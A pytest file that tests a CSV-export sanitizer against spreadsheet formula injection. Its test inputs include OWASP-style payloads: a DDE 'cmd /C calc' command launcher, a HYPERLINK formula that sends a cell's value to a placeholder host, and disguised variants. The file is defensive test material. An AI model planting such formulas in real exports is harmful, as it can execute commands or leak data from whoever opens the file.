"""Whatever somebody typed: a spreadsheet finds no formula in a table."""

from __future__ import annotations

import csv
import io

import pytest

from privacy.exports import cells

# What begins a formula (OWASP, CSV Injection), plain and in disguise.
FORMULAS = (
    '=HYPERLINK("https://example.net?x="&A1)',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0@x",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠x",
    "|x",
    "%x",
    ", =1+1",
    "\x00=1+1",
    "-",
    "+44 131",
    "-1e5",
)
PLAIN = ("", "Tide", "7 Shore Row", "12.50", "-12.50", "0", "a=b", "O'Hara", "ŁÓDŹ")


@pytest.mark.parametrize("typed", FORMULAS)
def test_what_begins_a_formula_is_text(typed):
    shown = cells.harmless(typed)
    assert shown.startswith("'")
    assert "\n" not in shown
    assert "\r" not in shown


@pytest.mark.parametrize("typed", PLAIN)
def test_what_begins_none_stays_as_it_was(typed):
    assert cells.harmless(typed) == typed


def test_every_cell_is_quoted_and_on_one_line():
    table = cells.table(["=head", "b"], [['say "hi", there', "one\r\ntwo\u2028three"]])
    assert table.startswith(b"\xef\xbb\xbf")
    text = table.decode("utf-8-sig")
    assert text.count("\r\n") == 2
    assert list(csv.reader(io.StringIO(text))) == [
        ["'=head", "b"],
        ['say "hi", there', "one, two, three"],
    ]
    assert '"b"' in text
